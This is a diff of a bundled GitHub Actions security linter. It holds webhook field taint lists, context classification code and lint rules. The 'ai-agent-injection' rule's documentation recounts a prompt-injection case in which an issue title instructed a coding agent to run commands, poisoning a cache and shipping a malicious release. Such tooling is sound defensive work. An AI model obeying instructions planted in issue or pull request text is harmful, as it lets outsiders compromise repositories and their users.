registry_package.package_version.release.tag_name registry_package.package_version.release.target_commitish registry_package.package_version.rubygems_metadata.*.commit_oid registry_package.package_version.rubygems_metadata.*.dependencies.*.* registry_package.package_version.rubygems_metadata.*.description registry_package.package_version.rubygems_metadata.*.homepage registry_package.package_version.rubygems_metadata.*.metadata.* registry_package.package_version.rubygems_metadata.*.name registry_package.package_version.rubygems_metadata.*.platform registry_package.package_version.rubygems_metadata.*.readme registry_package.package_version.rubygems_metadata.*.repo registry_package.package_version.rubygems_metadata.*.version_info.version registry_package.package_version.summary registry_package.package_version.tag_name registry_package.package_version.target_commitish registry_package.package_version.target_oid registry_package.package_version.version registry_package.registry.name registry_package.registry.vendor sender.name",
+    s: "registry_package.owner.login registry_package.package_version.author.login registry_package.package_version.release.author.login sender.email sender.login"
+  },
+  release: {
+    a: "changes.body.from changes.name.from changes.tag_name.from release.assets.*.content_type release.assets.*.label release.assets.*.name release.assets.*.uploader.name release.author.name release.body release.name release.tag_name release.target_commitish sender.name",
+    s: "release.assets.*.uploader.email release.assets.*.uploader.login release.author.email release.author.login sender.email sender.login"
+  },
+  repository_dispatch: {
+    a: "branch client_payload.* sender.name",
+    s: "sender.email sender.login"
+  },
+  status: {
+    a: "branches.*.name commit.author.name commit.commit.author.date commit.commit.author.name commit.commit.committer.date commit.commit.committer.name commit.commit.message commit.commit.verification.payload commit.commit.verification.signature commit.committer.name context description name sender.name target_url",
+    s: "commit.author.email commit.author.login commit.commit.author.email commit.commit.author.username commit.commit.committer.email commit.commit.committer.username commit.committer.email commit.committer.login sender.email sender.login"
+  },
+  watch: {
+    a: "sender.name",
+    s: "sender.email sender.login"
+  },
+  workflow_dispatch: {
+    a: "ref sender.name workflow",
+    s: "sender.email sender.login"
+  },
+  workflow_run: {
+    a: "sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.head_commit.author.name workflow_run.head_commit.committer.name workflow_run.head_commit.message workflow_run.head_repository.description workflow_run.head_repository.owner.name workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.repository.description workflow_run.repository.owner.name workflow_run.triggering_actor.name",
+    s: "sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_commit.author.email workflow_run.head_commit.author.username workflow_run.head_commit.committer.email workflow_run.head_commit.committer.username workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.email workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.email workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
+  }
+};
+var WEBHOOK_ALIASES = { "pull_request_target": "pull_request" };
+
+// server/src/knowledge/contexts.ts
+var PR_TRIGGERS = /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
+var GITHUB_PROPERTIES = {
+  action: { capability: "fixed", source: "the id of the current step or action" },
+  action_path: { capability: "fixed", source: "the directory of the running action on the runner" },
+  action_ref: { capability: "fixed", source: "the ref of the running action" },
+  action_repository: { capability: "fixed", source: "the owner and name of the running action" },
+  action_status: { capability: "fixed", source: "the composite action's result" },
+  actor: { capability: "structured", source: "the login of the user or app that caused the run (letters, digits, `-` and `[bot]`)" },
+  actor_id: { capability: "fixed", source: "the numeric id of the actor" },
+  api_url: { capability: "fixed", source: "the REST API URL" },
+  base_ref: { capability: "writer", source: "the target branch of the pull request, a branch of this repository" },
+  env: { capability: "fixed", source: "the path of the runner's GITHUB_ENV file" },
+  event_name: { capability: "fixed", source: "the name of the trigger" },
+  event_path: { capability: "fixed", source: "the path of the event payload file on the runner" },
+  graphql_url: { capability: "fixed", source: "the GraphQL API URL" },
+  head_ref: { capability: "arbitrary", source: "the source branch of the pull request, named by its author (a branch name may hold `$(...)`, quotes and backticks)" },
+  job: { capability: "fixed", source: "the id of the current job" },
+  output: { capability: "fixed", source: "the path of the GITHUB_OUTPUT file" },
+  path: { capability: "fixed", source: "the path of the GITHUB_PATH file" },
+  ref: { capability: "writer", source: "the ref that triggered the run (`refs/pull/N/merge` for pull requests; a branch or tag name pushed by a writer otherwise)" },
+  ref_name: { capability: "writer", source: "the short name of the triggering ref (`N/merge` for pull requests; a branch or tag name pushed by a writer otherwise)" },
+  ref_protected: { capability: "fixed", source: "whether the ref is protected" },
+  ref_type: { capability: "fixed", source: "`branch` or `tag`" },
+  repository: { capability: "fixed", source: "this repository's owner/name" },
+  repository_id: { capability: "fixed", source: "this repository's id" },
+  repository_owner: { capability: "fixed", source: "this repository's owner" },
+  repository_owner_id: { capability: "fixed", source: "the owner's id" },
+  repositoryurl: { capability: "fixed", source: "this repository's git URL" },
+  retention_days: { capability: "fixed", source: "the artifact retention setting" },
+  run_id: { capability: "fixed", source: "the run's id" },
+  run_number: { capability: "fixed", source: "the run's number" },
+  run_attempt: { capability: "fixed", source: "the run's attempt number" },
+  secret_source: { capability: "fixed", source: "where the secrets come from" },
+  server_url: { capability: "fixed", source: "the GitHub server URL" },
+  sha: { capability: "fixed", source: "the commit SHA that triggered the run" },
+  state: { capability: "fixed", source: "the path of the GITHUB_STATE file" },
+  step_summary: { capability: "fixed", source: "the path of the step summary file" },
+  token: { capability: "fixed", source: "the job's GITHUB_TOKEN (a secret: keep it out of scripts anyway)" },
+  triggering_actor: { capability: "structured", source: "the login of the user who started or re-ran the run" },
+  workflow: { capability: "fixed", source: "the workflow's name, written in this file" },
+  workflow_ref: { capability: "fixed", source: "the workflow file's ref" },
+  workflow_sha: { capability: "fixed", source: "the workflow file's commit SHA" },
+  workspace: { capability: "fixed", source: "the checkout directory on the runner" }
+};
+var RUNNER_ENV = {
+  "github.action": "GITHUB_ACTION",
+  "github.action_path": "GITHUB_ACTION_PATH",
+  "github.actor": "GITHUB_ACTOR",
+  "github.actor_id": "GITHUB_ACTOR_ID",
+  "github.api_url": "GITHUB_API_URL",
+  "github.base_ref": "GITHUB_BASE_REF",
+  "github.event_name": "GITHUB_EVENT_NAME",
+  "github.event_path": "GITHUB_EVENT_PATH",
+  "github.graphql_url": "GITHUB_GRAPHQL_URL",
+  "github.head_ref": "GITHUB_HEAD_REF",
+  "github.job": "GITHUB_JOB",
+  "github.ref": "GITHUB_REF",
+  "github.ref_name": "GITHUB_REF_NAME",
+  "github.ref_type": "GITHUB_REF_TYPE",
+  "github.repository": "GITHUB_REPOSITORY",
+  "github.repository_owner": "GITHUB_REPOSITORY_OWNER",
+  "github.run_attempt": "GITHUB_RUN_ATTEMPT",
+  "github.run_id": "GITHUB_RUN_ID",
+  "github.run_number": "GITHUB_RUN_NUMBER",
+  "github.server_url": "GITHUB_SERVER_URL",
+  "github.sha": "GITHUB_SHA",
+  "github.triggering_actor": "GITHUB_TRIGGERING_ACTOR",
+  "github.workflow": "GITHUB_WORKFLOW",
+  "github.workflow_ref": "GITHUB_WORKFLOW_REF",
+  "github.workspace": "GITHUB_WORKSPACE"
+};
+var EVENT_OVERRIDES = [
+  { pattern: /(^|\.)(base|head)\.sha$|^(before|after)$|(^|\.)head_sha$/, capability: "fixed", source: "a commit SHA" },
+  { pattern: /^pull_request\.base\.(ref|label)$|^workflow_run\.pull_requests\.\*\.base\.ref$/, capability: "writer", source: "the target branch, a branch of this repository" },
+  { pattern: /(^|\.)number$|(^|\.)id$/, capability: "fixed", source: "a number" }
+];
+var OBJECT_NAMES = [
+  [/^pull_request\.title$/, "the pull request title"],
+  [/^pull_request\.body$/, "the pull request description"],
+  [/^pull_request\.head\.ref$/, "the pull request's source branch name"],
+  [/^pull_request\.head\.label$/, "the pull request's `owner:branch` label"],
+  [/^issue\.title$/, "the issue title"],
+  [/^issue\.body$/, "the issue body"],
+  [/^comment\.body$/, "the comment text"],
+  [/^review\.body$/, "the review text"],
+  [/^discussion\.title$/, "the discussion title"],
+  [/^discussion\.body$/, "the discussion body"],
+  [/commits\.\*\.message$|head_commit\.message$/, "a commit message"],
+  [/(author|committer)\.(name|email)$/, "a commit author field (git does not validate it)"],
+  [/^workflow_run\.head_branch$/, "the branch of the triggering run (a fork's branch name)"],
+  [/^workflow_run\.display_title$/, "the title of the triggering run (a pull request title or commit message)"],
+  [/labels?\.(\*\.)?name$/, "a label name"],
+  [/^client_payload\./, "the `client_payload` chosen by whoever calls the dispatch API"]
+];
+function describeEventField(field, capability) {
+  for (const [pattern, name] of OBJECT_NAMES) if (pattern.test(field)) return name;
+  if (capability === "structured") return "a login, repository name or e-mail address from the event";
+  if (capability === "arbitrary") return "free text from the event payload";
+  return "a value of the event payload";
+}
+var fieldCache = /* @__PURE__ */ new Map();
+function fieldsOf(event) {
+  if (fieldCache.has(event)) return fieldCache.get(event);
+  const entry = Object.prototype.hasOwnProperty.call(WEBHOOK_FIELDS, event) ? WEBHOOK_FIELDS[event] : null;
+  let sets = null;
+  if (entry) {
+    const split = (s) => new Set(s ? s.split(" ") : []);
+    sets = { arbitrary: split(entry.a), structured: split(entry.s), prefixes: /* @__PURE__ */ new Set() };
+    for (const path of [...sets.arbitrary, ...sets.structured]) {
+      const parts = path.split(".");
+      for (let i = 1; i < parts.length; i++) sets.prefixes.add(parts.slice(0, i).join("."));
+    }
+  }
+  fieldCache.set(event, sets);
+  return sets;
+}
+function matches(set2, field) {
+  if (set2.has(field)) return true;
+  const parts = field.split(".");
+  for (let i = parts.length - 1; i >= 1; i--) if (set2.has(`${parts.slice(0, i).join(".")}.*`)) return true;
+  return false;
+}
+function eventFieldUnder(trigger, field) {
+  const event = Object.prototype.hasOwnProperty.call(WEBHOOK_ALIASES, trigger) ? WEBHOOK_ALIASES[trigger] : trigger;
+  const sets = fieldsOf(event);
+  if (!sets) return trigger === "workflow_call" ? "unknown" : null;
+  if (field === "") return "arbitrary";
+  if (matches(sets.arbitrary, field)) return "arbitrary";
+  if (matches(sets.structured, field)) return "structured";
+  if (sets.prefixes.has(field) || field.endsWith(".*")) return "arbitrary";
+  return "fixed";
+}
+var RANK2 = { fixed: 0, unknown: 1, structured: 2, writer: 3, arbitrary: 4 };
+function normalizeContextPath(path) {
+  return path.toLowerCase().split(".").map((segment) => /^\d+$/.test(segment) ? "*" : segment).join(".");
+}
+function classifyGithubContext(rawPath, triggers) {
+  const path = normalizeContextPath(rawPath);
+  const parts = path.split(".");
+  const property = parts[1] ?? "";
+  if (parts.length === 1) return { path, capability: "arbitrary", source: "the whole `github` context, including the event payload", outsiderTriggers: outsiders(triggers, () => true) };
+  if (property !== "event") {
+    const known = GITHUB_PROPERTIES[property];
+    if (!known) return { path, capability: "unknown", source: `\`github.${property}\` is not a documented property`, outsiderTriggers: [] };
+    if (property === "head_ref") {
+      const applies = triggers === null || triggers.some((t) => PR_TRIGGERS.has(t) || t === "workflow_call");
+      return applies ? { path, capability: "arbitrary", source: known.source, outsiderTriggers: outsiders(triggers, (t) => PR_TRIGGERS.has(t)) } : { path, capability: "fixed", source: "empty: the workflow has no pull request trigger", outsiderTriggers: [] };
+    }
+    return { path, capability: known.capability, source: known.source, outsiderTriggers: known.capability === "structured" ? outsiders(triggers, () => true) : [] };
+  }
+  const field = parts.slice(2).join(".");
+  for (const override of EVENT_OVERRIDES) {
+    if (override.pattern.test(field)) return { path, capability: override.capability, source: override.source, outsiderTriggers: [] };
+  }
+  const candidates = triggers ?? Object.keys(WEBHOOK_FIELDS).concat("pull_request_target");
+  let best = null;
+  const outsider = [];
+  for (const trigger of candidates) {
+    let capability = eventFieldUnder(trigger, field);
+    if (capability === null) continue;
+    const info = triggerInfo(trigger);
+    if (capability === "arbitrary" && info && !info.outsiderCanFire) {
+      const mergedText = trigger === "push" && /commits\.\*\.|head_commit\./.test(field);
+      if (!mergedText) capability = "writer";
+    }
+    if ((capability === "arbitrary" || capability === "structured") && (info?.outsiderCanFire || trigger === "push")) outsider.push(trigger);
+    if (best === null || RANK2[capability] > RANK2[best]) best = capability;
+  }
+  if (best === null) {
+    return { path, capability: "fixed", source: `absent from the payload of ${triggers && triggers.length ? triggers.map((t) => `\`${t}\``).join(", ") : "this workflow's triggers"}`, outsiderTriggers: [] };
+  }
+  return { path, capability: best, source: describeEventField(field, best), outsiderTriggers: outsider };
+}
+function outsiders(triggers, applies) {
+  if (triggers === null) return [];
+  return triggers.filter((t) => applies(t) && triggerInfo(t)?.outsiderCanFire);
+}
+var SAFE_INPUT_TYPES = /* @__PURE__ */ new Set(["boolean", "number", "choice", "environment"]);
+function isInertContext(path) {
+  const p = normalizeContextPath(path);
+  return /^(runner|job|strategy)(\.|$)/.test(p) || /^steps\.[^.]+\.(outcome|conclusion)$/.test(p) || /^needs\.[^.]+\.result$/.test(p) || /^jobs\.[^.]+\.result$/.test(p);
+}
+
+// server/src/knowledge/taint.ts
+var SEVERITY_RANK = { informational: 0, low: 1, medium: 2, high: 3 };
+function stronger(a, b) {
+  if (!a) return b;
+  if (!b) return a;
+  return SEVERITY_RANK[b.severity] > SEVERITY_RANK[a.severity] ? b : a;
+}
+function scopeTriggers(file) {
+  const workflow = file.workflow;
+  if (!workflow) return null;
+  const names = workflow.triggers.map((trigger) => trigger.name);
+  if (names.length === 0 || names.includes("workflow_call")) return null;
+  return names;
+}
+function scopeOf(file, path) {
+  const triggers = scopeTriggers(file);
+  if (file.workflow && path[0] === "jobs" && typeof path[1] === "string") {
+    const job = file.workflow.job(path[1]) ?? null;
+    const step = job && path[2] === "steps" && typeof path[3] === "number" ? job.steps[path[3]] ?? null : null;
+    return { file, job, step, triggers };
+  }
+  if (file.action && path[0] === "runs" && path[1] === "steps" && typeof path[2] === "number") {
+    return { file, job: null, step: file.action.steps[path[2]] ?? null, triggers };
+  }
+  return { file, job: null, step: null, triggers };
+}
+function v(severity, confidence, persona, capability, reason) {
+  return { severity, confidence, persona, capability, reason };
+}
+function triggerList(triggers) {
+  return triggers.map((t) => `\`${t}\``).join(", ");
+}
+function whoFires(trigger) {
+  const firedBy = triggerInfo(trigger)?.firedBy;
+  if (firedBy === void 0) return `whoever fires \`${trigger}\``;
+  const open = firedBy.endsWith(")") ? firedBy.indexOf(" (") : -1;
+  return open === -1 ? firedBy : firedBy.slice(0, open);
+}
+function assessPath(rawPath, scope, depth = 0) {
+  const path = normalizeContextPath(rawPath);
+  const root = path.split(".")[0];
+  if (isInertContext(path)) return null;
+  switch (root) {
+    case "github": {
+      const info = classifyGithubContext(path, scope.triggers);
+      switch (info.capability) {
+        case "arbitrary":
+          if (info.outsiderTriggers.length > 0) {
+            const first = info.outsiderTriggers[0];
+            const via = first === "push" && !triggerInfo("push")?.outsiderCanFire ? "the text of a merged pull request (`push`)" : `${whoFires(first)} (${triggerList(info.outsiderTriggers)})`;
+            return v("high", first === "push" && info.outsiderTriggers.length === 1 ? "medium" : "high", "regular", "arbitrary", `${info.source}, chosen by ${via}`);
+          }
+          if (scope.triggers === null) return v("high", "medium", "regular", "arbitrary", `${info.source}, chosen by whoever causes the event`);
+          return v("medium", "medium", "regular", "arbitrary", `${info.source}`);
+        case "writer":
+          if (path.startsWith("github.event.")) return v("medium", "medium", "regular", "writer", `${info.source}, chosen by people with write access`);
+          return v("low", "medium", "pedantic", "writer", `${info.source}`);
+        case "structured":
+          return v("low", "medium", "pedantic", "structured", `${info.source}: restricted characters, but chosen by someone else`);
+        case "unknown":
+          return v("low", "low", "pedantic", "unknown", info.source);
+        default:
+          return null;
+      }
+    }
+    case "inputs":
+      return assessInput(path, scope);
+    case "env":
+      return depth > 0 ? v("low", "low", "pedantic", "unknown", "an environment variable") : assessEnv(path, scope);
+    case "matrix":
+      return assessMatrix(path, scope);
+    case "steps":
+    case "needs":
+    case "jobs":
+      return /\.outputs(\.|$)/.test(path) || path.split(".").length <= 2 ? v("informational", "low", "pedantic", "unknown", "an output computed at run time; check where its text comes from") : null;
+    case "vars":
+      return v("informational", "low", "pedantic", "writer", "a configuration variable, set by repository admins");
+    case "secrets":
+      return null;
+    default:
+      return v("low", "low", "pedantic", "unknown", `\`${root}\` is not a context this analysis knows`);
+  }
+}
+function assessInput(path, scope) {
+  const name = path.split(".")[1] ?? "";
+  const file = scope.file;
+  if (file.action) {
+    if (!name || name === "*") return v("high", "medium", "regular", "arbitrary", "the action's inputs, chosen by every workflow that uses it");
+    return v("high", "medium", "regular", "arbitrary", `input \`${name}\` of this action, chosen by every workflow that uses it (the Ultralytics compromise fed a branch name through such an input)`);
+  }
+  const workflow = file.workflow;
+  if (!workflow) return null;
+  let verdict2 = null;
+  let declared = false;
+  for (const trigger of ["workflow_dispatch", "workflow_call"]) {
+    const config = workflow.trigger(trigger)?.config;
+    if (!config) continue;
+    const input2 = config.child("inputs").get(name);
+    if (!input2) continue;
+    declared = true;
+    const type = scalarText(asMap(input2.value)?.get("type", true)) ?? "string";
+    if (SAFE_INPUT_TYPES.has(type.toLowerCase())) continue;
+    verdict2 = stronger(
+      verdict2,
+      trigger === "workflow_call" ? v("medium", "medium", "regular", "arbitrary", `\`${type}\` input \`${name}\` of this reusable workflow, chosen by its callers (which may pass pull request or issue text)`) : v("medium", "high", "regular", "writer", `\`${type}\` input \`${name}\`, typed in by whoever dispatches the workflow`)
+    );
+  }
+  if (!declared) return v("low", "low", "pedantic", "unknown", `input \`${name}\` is not declared`);
+  return verdict2;
+}
+function envValue(view, name) {
+  if (!view) return { found: false, node: null };
+  for (const entry of view.entries) if (entry.key.toLowerCase() === name) return { found: true, node: entry.value };
+  return { found: false, node: null };
+}
+function assessEnv(path, scope) {
+  const name = path.split(".")[1] ?? "";
+  const levels = [];
+  if (scope.step) levels.push(scope.step.env);
+  if (scope.job) levels.push(scope.job.env);
+  if (scope.file.workflow) levels.push(scope.file.workflow.env);
+  for (const level of levels) {
+    const { found, node } = envValue(level, name);
+    if (!found) continue;
+    const text = scalarText(node);
+    if (text === null) return asMap(node) || asSeq(node) ? v("low", "low", "pedantic", "unknown", `\`env.${name}\``) : null;
+    if (!text.includes("${{")) return null;
+    let verdict2 = null;
+    for (const occurrence of findExpressions(text)) {
+      const ast = occurrence.parsed.ast;
+      if (!ast) continue;
+      for (const leaf of valueLeaves(ast)) {
+        if (leaf.type === "literal") continue;
+        const inner = contextPath(leaf, { computedIndexAsWildcard: true });
+        const found2 = inner ? assessPath(inner, scope, 1) : null;
+        if (found2) verdict2 = stronger(verdict2, { ...found2, reason: `\`env.${name}\`, set from \`${inner}\`: ${found2.reason}` });
+      }
+    }
+    return verdict2;
+  }
+  return v("low", "low", "pedantic", "unknown", `\`env.${name}\` is not set in this file (it may come from GITHUB_ENV)`);
+}
+function assessMatrix(path, scope) {
+  const key = path.split(".")[1] ?? "";
+  const job = scope.job;
+  if (!job) return v("low", "low", "pedantic", "unknown", "a matrix value");
+  let byKey = MATRIX_SOURCES.get(job);
+  if (!byKey) MATRIX_SOURCES.set(job, byKey = /* @__PURE__ */ new Map());
+  let source = byKey.get(key);
+  if (source === void 0) byKey.set(key, source = matrixValueSource(job, key, scope.file.doc));
+  return source === null ? null : v("medium", "low", "regular", "unknown", `matrix value \`${key}\`, ${source}`);
+}
+var MATRIX_SOURCES = new AttachedCache("matrix-sources", attachmentsOf);
+function matrixValueSource(job, key, doc) {
+  const node = job.strategy.get("matrix")?.value ?? null;
+  const text = scalarText(node);
+  if (text !== null) return text.includes("${{") ? "from a matrix computed at run time" : null;
+  const map2 = asMap(node);
+  if (!map2) return null;
+  let expression = false;
+  const visit3 = (value) => {
+    const s = scalarText(value);
+    if (s !== null && s.includes("${{")) expression = true;
+    for (const item of seqItems(asSeq(value), doc)) visit3(item);
+    for (const entry of mapEntries(asMap(value), doc)) visit3(entry.value);
+  };
+  for (const entry of mapEntries(map2, doc)) {
+    if (entry.key === key || key === "" || key === "*") visit3(entry.value);
+    if (entry.key === "include" || entry.key === "exclude") {
+      for (const item of seqItems(asSeq(entry.value), doc)) {
+        const s2 = scalarText(item);
+        if (s2 !== null && s2.includes("${{")) expression = true;
+        for (const inner of mapEntries(asMap(item), doc)) if (inner.key === key) visit3(inner.value);
+      }
+      const s = scalarText(entry.value);
+      if (s !== null && s.includes("${{")) expression = true;
+    }
+  }
+  return expression ? "set from an expression" : null;
+}
+function assessSite(site, scope) {
+  const occurrence = site.occurrence;
+  const ast = occurrence.terminated ? occurrence.parsed.ast : null;
+  if (!ast) return [];
+  const verdicts = [];
+  for (const leaf of valueLeaves(ast)) {
+    if (leaf.type === "literal") continue;
+    const path = contextPath(leaf, { computedIndexAsWildcard: true });
+    if (!path) continue;
+    const verdict2 = assessPath(path, scope);
+    if (!verdict2) continue;
+    verdicts.push({ start: occurrence.innerStart + leaf.start, end: occurrence.innerStart + leaf.end, path, verdict: verdict2 });
+  }
+  return verdicts;
+}
+function singleContext(site) {
+  let ast = site.occurrence.terminated ? site.occurrence.parsed.ast : null;
+  while (ast && ast.type === "group") ast = ast.expr;
+  if (!ast || ast.type !== "property" && ast.type !== "index" && ast.type !== "context") return null;
+  const path = contextPath(ast);
+  return path ? { node: ast, path } : null;
+}
+
+// server/src/rules/ai-agent-injection.ts
+var OUTSIDER_TRIGGERS_NOTE = "issues, comments, pull requests, reviews and discussions";
+function agentFacts(step, agent, repository, ref2, file, job) {
+  const { tools, toolsWhy, toolsSpan } = agentTools(step, agent, ref2);
+  const access = agentAccess(step, agent, ref2);
+  let { open, openWhy } = access;
+  if (!agent.gated && !open && !guardedByCondition(step, job)) {
+    const triggers = scopeTriggers(file);
+    if (triggers && triggers.some((trigger) => triggerInfo(trigger)?.outsiderCanFire)) {
+      open = true;
+      openWhy = `${repository} does not check the permissions of whoever triggers it, and no \`if:\` does`;
+    }
+  }
+  return { agent, repository, tools, toolsWhy, toolsSpan, open, openWhy, openSpan: access.openSpan };
+}
+function guardedByCondition(step, job) {
+  const texts = [scalarText(step.if?.value ?? null), scalarText(job?.if?.value ?? null)];
+  return texts.some((text) => text !== null && /author_association|\.actor\b|triggering_actor|sender\.login|user\.login|\.labels?\b|label\.name/i.test(text));
+}
+function severityFor(facts) {
+  if (facts.tools === "shell") return "high";
+  if (facts.tools === "limited") return facts.open ? "high" : "medium";
+  return "low";
+}
+function lower(confidence) {
+  return confidence === "high" ? "medium" : "low";
+}
+function related(facts) {
+  const out = [];
+  if (facts.toolsSpan) out.push({ span: facts.toolsSpan, message: `The agent's tools: ${facts.toolsWhy}` });
+  if (facts.openSpan) out.push({ span: facts.openSpan, message: `Who may trigger the agent: ${facts.openWhy}` });
+  return out;
+}
+function aggravation(facts) {
+  const parts = [];
+  if (facts.tools !== "none") parts.push(facts.toolsWhy);
+  else parts.push(`${facts.repository} only returns text, so an attacker steers its output`);
+  if (facts.open) parts.push(facts.openWhy);
+  return parts.join("; ");
+}
+var READS_EVENT_TEXT = /\b(issue|pull request|PR|comment|discussion|review)s?\b/i;
+var aiAgentInjection = {
+  id: "ai-agent-injection",
+  title: "Untrusted text in the prompt of an AI agent",
+  kinds: ["workflow", "action"],
   severity: "high",
-  confidence: "medium",
+  confidence: "high",
   persona: "regular",
+  online: false,
   docs: {
-    summary: "`pull_request_target` and `workflow_run` run with the base repository's secrets and a token that can write, on events that anyone with a fork can cause.",
-    why: "These triggers are behind most CI compromises of 2024–2026: spotbugs (the start of the reviewdog → tj-actions chain), Ultralytics, PostHog, Trivy (hackerbot-claw), TanStack and the prt-scan wave all ran attacker-controlled code or text in a `pull_request_target` workflow that held secrets or a write token. Astral forbids both triggers organisation-wide.",
-    fix: "Use `pull_request` (fork runs get no secrets and a read-only token). To comment on pull requests, let a `pull_request` workflow upload its results and have a GitHub App or a separate, minimal workflow act on them without checking out or executing pull request code."
+    summary: "Text that outsiders write (issue or pull request titles and bodies, comments, reviews, discussions, branch names) reaches the prompt of an AI agent action such as `anthropics/claude-code-action`, `openai/codex-action` or `google-github-actions/run-gemini-cli`.",
+    why: "A model cannot tell the workflow author's instructions from instructions hidden in the text it is given. In Cline (2026), an `issues` workflow passed the issue title to `claude-code-action`, open to non-writers and allowed to run `Bash`; an issue title told the agent to run commands, which poisoned a cache used by the nightly publish and shipped a malicious `cline` release.",
+    fix: "Do not put outsider text in the prompt: have the agent read it through a read-only tool, keep the agent to read-only tools (no `Bash`, no `danger-full-access`), keep the default write-access check (no `allowed_non_write_users: '*'`), and give the job `permissions:` no wider than the agent needs, with no secrets other than the model key."
+  },
+  check({ file, report }) {
+    const reportedSteps = /* @__PURE__ */ new Set();
+    const factsCache = /* @__PURE__ */ new Map();
+    const factsOf = (step, job) => {
+      if (factsCache.has(step)) return factsCache.get(step);
+      const uses = scalarText(step.uses?.value ?? null);
+      let facts = null;
+      if (uses) {
+        const reference = parseUses(uses);
+        if (reference.kind === "remote") {
+          const agent = agentActionFor(reference.owner, reference.repo, reference.subpath);
+          if (agent) facts = agentFacts(step, agent, reference.repository, reference.ref, file, job);
+        }
+      }
+      factsCache.set(step, facts);
+      return facts;
+    };
+    const base2 = file.workflow ? 4 : 3;
+    for (const site of file.expressions) {
+      const path = site.path;
+      if (path.length !== base2 + 2 || path[base2] !== "with" || typeof path[base2 + 1] !== "string") continue;
+      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
+      const scope = scopeOf(file, path);
+      const step = scope.step;
+      if (!step) continue;
+      const facts = factsOf(step, scope.job);
+      if (!facts) continue;
+      const input2 = String(path[base2 + 1]);
+      if (!facts.agent.promptInputs.includes(input2.toLowerCase())) continue;
+      for (const leaf of assessSite(site, scope)) {
+        const verdict2 = leaf.verdict;
+        if (verdict2.capability !== "arbitrary" || verdict2.severity !== "high" && verdict2.severity !== "medium") continue;
+        reportedSteps.add(step);
+        reportLeaf(leaf, input2, facts, scope.triggers !== null);
+      }
+    }
+    function reportLeaf(leaf, input2, facts, knownTriggers) {
+      const verdict2 = leaf.verdict;
+      const outsider = verdict2.severity === "high";
+      const severity = outsider ? severityFor(facts) : "low";
+      const confidence = !outsider ? "low" : knownTriggers ? verdict2.confidence : lower(verdict2.confidence);
+      report({
+        span: { start: leaf.start, end: leaf.end },
+        message: `\`${leaf.path}\` is written into \`${input2}\` of ${facts.repository}, the agent's instructions: ${verdict2.reason}. Whoever writes it can steer the agent (${aggravation(facts)})`,
+        severity,
+        confidence,
+        persona: outsider ? "regular" : "pedantic",
+        related: related(facts)
+      });
+    }
+    const triggers = scopeTriggers(file);
+    const outsiderTriggers = (triggers ?? []).filter((trigger) => triggerInfo(trigger)?.outsiderCanFire);
+    if (!file.workflow || outsiderTriggers.length === 0) return;
+    for (const job of file.workflow.jobs) {
+      for (const step of job.steps) {
+        if (reportedSteps.has(step)) continue;
+        const facts = factsOf(step, job);
+        if (!facts || !step.uses) continue;
+        const prompts = facts.agent.promptInputs.filter((name) => name !== "claude_args" && name !== "codex-args" && name !== "codex_args").map((name) => withValue(step, name)).filter((value) => value !== null);
+        const promptFile = withValue(step, "prompt-file") ?? withValue(step, "prompt_file");
+        const usesSpan = step.uses.valueSpan;
+        const tagMode = facts.agent.tagMode;
+        const triggerText = outsiderTriggers.map((t) => `\`${t}\``).join(", ");
+        if (prompts.length === 0 && !promptFile && facts.open && tagMode && facts.openSpan) {
+          report({
+            span: facts.openSpan,
+            message: `${facts.repository} takes its instructions from the triggering comment, issue or pull request, and ${facts.openWhy} (${triggerText}): anyone can instruct the agent (${facts.tools !== "none" ? facts.toolsWhy : "no tools"})`,
+            severity: facts.tools === "none" ? "low" : "high",
+            confidence: "medium",
+            related: facts.toolsSpan ? [{ span: facts.toolsSpan, message: `The agent's tools: ${facts.toolsWhy}` }] : []
+          });
+          continue;
+        }
+        if (facts.tools === "none") continue;
+        const reading = prompts.find((value) => READS_EVENT_TEXT.test(value.text)) ?? promptFile ?? (facts.open ? prompts[0] : void 0);
+        if (!reading) continue;
+        report({
+          span: usesSpan,
+          message: `${facts.repository} runs under ${triggerText} with ${reading === promptFile ? "a prompt file assembled by the job" : "a prompt about the event"}: text an outsider writes in ${OUTSIDER_TRIGGERS_NOTE} may reach the model (${aggravation(facts)}); check that the agent's tools and token cannot do harm`,
+          severity: "medium",
+          confidence: "low",
+          persona: "auditor",
+          related: [{ span: reading.entry.valueSpan, message: "The prompt" }, ...related(facts)]
+        });
+      }
+    }
+  }
+};
+
+// server/src/rules/anonymous-definition.ts
+var anonymousDefinition = {
+  id: "anonymous-definition",
+  title: "Workflow or job without a name",
+  kinds: ["workflow"],
+  severity: "low",
+  confidence: "high",
+  persona: "pedantic",
+  online: false,
+  docs: {
+    summary: "A workflow without `name:` is shown by its file path, a job without `name:` by its id, in the Actions UI, required-check settings and audit logs.",
+    why: "Reviewing run history after an incident (which workflow ran, which job used a secret) is slower when names are paths and ids; required status checks bound to unnamed jobs break silently when ids change.",
+    fix: "Add `name:` at the top of the workflow and to each job."
   },
   check({ file, report }) {
     const workflow = file.workflow;
-    if (!workflow) return;
-    for (const trigger of workflow.triggers) {
-      if (!DANGEROUS.has(trigger.name)) continue;
-      const info = triggerInfo(trigger.name);
-      const jobs = workflow.jobs.length;
-      const subject = jobs === 1 ? "its job" : `its ${jobs} jobs`;
-      const verb = info.privileged ? jobs === 1 ? "inherits that privilege" : "inherit that privilege" : jobs === 1 ? "runs with it" : "run with it";
+    if (!workflow || !workflow.map) return;
+    if (!workflow.has("name")) {
+      const first = workflow.entries[0];
+      if (first) report({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
+    }
+    for (const job of workflow.jobs) {
+      if (!job.map || job.has("name")) continue;
+      report({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
+    }
+  }
+};
+
+// server/src/knowledge/archived-actions.ts
+var ARCHIVED_ACTIONS = [
+  { repository: "actions/create-release", replacement: "`gh release create` or softprops/action-gh-release" },
